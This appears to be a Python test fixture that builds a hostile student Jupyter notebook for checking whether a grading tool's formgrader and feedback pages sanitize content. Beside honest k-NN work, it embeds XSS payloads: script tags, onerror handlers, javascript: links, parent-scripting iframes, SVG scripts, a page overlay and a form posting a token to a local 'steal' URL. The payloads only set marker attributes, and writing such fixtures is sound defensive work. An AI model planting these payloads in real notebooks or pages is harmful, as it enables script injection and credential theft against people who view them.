"""A student's knn.ipynb that tries to run script in whoever looks at it, beside honest work.

``write_hostile_knn(path)`` writes the released knn.ipynb with:

* an honest answer to inline question 1 (text, inline and display math) into which the student
  also put markdown payloads: an ``<img onerror>``, a raw ``<script>``, a ``javascript:`` link, an
  iframe whose document scripts its parent, a full-page overlay, a form and a MathJax ``\\href``;
* outputs on the "distance matrix" plot cell: an honest PNG plot and printed text, and next to
  them an HTML output with a script and event handlers, a JavaScript output, an SVG with a script,
  a widget view, and an HTML output nbconvert would put into an iframe;
* a raw cell with a script, and widget state in the notebook's metadata.

Every payload that runs marks the page it runs in: ``document.documentElement.dataset.pwned<Name> = 1``
(an attribute ``data-pwned-<name>`` on ``<html>``; no quotes needed inside the payloads). A test reads
the marks back with ``MARKS_SCRIPT``. Names: ``PAYLOADS``.
"""
import base64
import io
import json
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[2]
RELEASED_KNN = REPO / "release" / "assignment1" / "knn.ipynb"

ANSWER_TEXT = "The bright rows are test images far from every training image"
MATH_TEXT = r"d(x, y) = \sqrt{\sum_p (x_p - y_p)^2}"
PRINTED_TEXT = "distance matrix of shape (500, 5000)"
OVERLAY_ID = "student-overlay"


def _mark(name):
    return f"document.documentElement.dataset.pwned{name}=1"


PAYLOADS = {
    "MdImg": "markdown <img onerror>",
    "MdScript": "markdown <script>",
    "MdLink": "markdown javascript: link (runs when clicked)",
    "MdIframe": "markdown iframe whose document scripts the page",
    "HtmlScript": "text/html output with <script>",
    "HtmlOnerror": "text/html output with an event handler",
    "JsOutput": "application/javascript output",
    "Svg": "SVG output with <script> and onload",
    "Isolated": "text/html output shown in an iframe",
    "Raw": "raw cell with <script>",
}

# What reaches the page for certain when nothing is sanitized (nbconvert 7 shows SVG outputs as an
# <img>, where their scripts never run, and sanitizes raw cells itself; a JavaScript output needs
# jQuery, which the formgrader loads and a feedback page fetches from the internet).
RUN_IN_FORMGRADER_UNSANITIZED = {"MdImg", "MdScript", "MdIframe", "HtmlScript", "HtmlOnerror", "JsOutput"}
RUN_IN_FEEDBACK_UNSANITIZED = {"MdImg", "MdScript", "MdIframe", "HtmlScript", "HtmlOnerror"}

ANSWER = f"""**Your answer:**

{ANSWER_TEXT}: their distance to every training image is large, so ${MATH_TEXT}$ is large in the
whole row.

$$\\text{{row mean}} = \\frac{{1}}{{N}} \\sum_j d_{{ij}}$$

<img src="no-such-image.png" onerror="{_mark('MdImg')}">
<script>{_mark('MdScript')}</script>

[click me](javascript:void({_mark('MdLink')}))

<iframe srcdoc="<script>parent.{_mark('MdIframe')}</script>"></iframe>

<div id="{OVERLAY_ID}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:rgba(200,0,0,.3)">overlay</div>

<form action="http://127.0.0.1:9/steal"><input name="token"><button>Save</button></form>

$\\href{{javascript:void(0)}}{{a formula that is a link}}$
"""

MARKS_SCRIPT = ("return Object.keys(document.documentElement.dataset)"
                ".filter(k => k.startsWith('pwned')).map(k => k.slice(5)).sort();")


def plot_png():
    """A small real matplotlib plot, as the PNG base64 text a kernel would send."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(3, 2), dpi=60)
    ax.imshow([[0, 1, 2], [2, 1, 0]], interpolation="none")
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    plt.close(fig)
    return base64.b64encode(buffer.getvalue()).decode()


def hostile_outputs(png):
    """The outputs of the plot cell: honest ones first, then every hostile kind."""
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_mark("Svg")}" width="10" height="10">'
           f'<script>{_mark("Svg")}</script><rect width="10" height="10"/></svg>')
    return [
        nbformat.v4.new_output("stream", name="stdout", text=PRINTED_TEXT + "\n"),
        nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure size 180x120>"}),
        nbformat.v4.new_output("display_data", data={
            "text/html": f"<b>results</b><script>{_mark('HtmlScript')}</script>"
                         f"<img src=x onerror=\"{_mark('HtmlOnerror')}\">",
            "text/plain": "results"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": _mark("JsOutput")}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": svg}),
        nbformat.v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "aaaa", "version_major": 2, "version_minor": 0},
            "text/plain": "IntSlider(value=3)"}),
        nbformat.v4.new_output("display_data", data={"text/html": f"<script>parent.{_mark('Isolated')}</script>"},
                               metadata={"text/html": {"isolated": True}}),
    ]


def hostile_knn():
    """The hostile notebook (an nbformat NotebookNode)."""
    nb = nbformat.read(RELEASED_KNN, as_version=4)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1-answer")
    answer.source = ANSWER
    plot = next(c for c in nb.cells if c.cell_type == "code" and c.source.startswith("plt.imshow(dists"))
    plot.outputs = hostile_outputs(plot_png())
    plot.execution_count = 7
    nb.cells.insert(nb.cells.index(plot) + 1, nbformat.v4.new_raw_cell(
        f"<script>{_mark('Raw')}</script>", metadata={"raw_mimetype": "text/html"}))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"aaaa": {"model_module": "student-widget-from-npm", "model_name": "EvilModel",
                           "model_module_version": "1.0.0", "state": {}}},
        "version_major": 2, "version_minor": 0}}
    return nb


def write_hostile_knn(path):
    nbformat.write(hostile_knn(), str(path))
    return Path(path)


def widget_state(nb):
    return json.dumps(nb.get("metadata", {}).get("widgets", {}))
